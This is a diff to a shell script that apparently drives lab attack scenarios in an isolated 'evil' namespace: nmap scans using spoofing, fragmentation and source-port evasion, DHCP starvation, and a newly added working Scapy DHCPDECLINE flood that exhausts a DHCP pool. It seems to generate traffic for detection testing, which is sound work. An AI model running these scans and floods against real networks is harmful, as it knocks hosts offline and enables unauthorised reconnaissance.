@@ -1961,7 +1961,6 @@ scn_nmap_sn_PA() { inns evil nmap -sn -n --send-ip -PA "$NET.96/27"; }
 scn_nmap_sn_PU() { inns evil nmap -sn -n --send-ip -PU "$NET.96/27"; }
 scn_nmap_sn_default_ip() { inns evil nmap -sn -n --send-ip "$NET.96/27"; }
 scn_nmap_randomize_hosts() { inns evil nmap -sS -n -T4 --randomize-hosts --top-ports 5 "$NET.96/27"; }
-scn_nmap_spoofed_source() { inns evil nmap -sS -Pn -n -T4 -e eth0 -S "$NET.77" -p 1-100 "$nas"; }
 scn_nmap_source_port_53() { inns evil nmap -sS -Pn -n -T4 --source-port 53 -p 1-100 "$nas"; }
 scn_nmap_mtu8() { inns evil nmap -sS -Pn -n -T4 --mtu 8 -p 1-100 "$nas"; }
 scn_nmap_sU_default() { inns evil nmap -sU -Pn -n -T4 --top-ports 30 "$nas"; }
@@ -2120,6 +2119,20 @@ if "g" in opts:
 EOF
 scn_dhcpig_default() { inns evil "$py" "$tmp/pig.py"; }
 scn_dhcpig_release_garp() { inns evil "$py" "$tmp/pig.py" nrg; }
+# A DHCPDECLINE flood: a DECLINE (RFC 2131 4.4.1: the address is in use,
+# the server sets it aside) for each of 60 addresses (.150-.209, the
+# gateway's pool and past it), each from its own random unicast MAC in
+# DHCPig's 00:0c:29 block (frame source and chaddr), 20 a second, with no
+# DISCOVER before: the pool emptied without a lease.
+scn_dhcp_decline_flood_scapy() {
+	scapy evil 'ps = []
+for i in range(150, 210):
+    m = "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
+    ps.append(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+              BOOTP(chaddr=mac2str(m), xid=random.randint(1, 900000000))/DHCP(options=[("message-type", "decline"), ("requested_addr", "'$NET'.%d" % i), ("server_id", "'$NET.1'"), "end"]))
+sendp(ps, iface="eth0", inter=0.05)'
+	sleep 25 # no forged client shows a stack afterwards
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
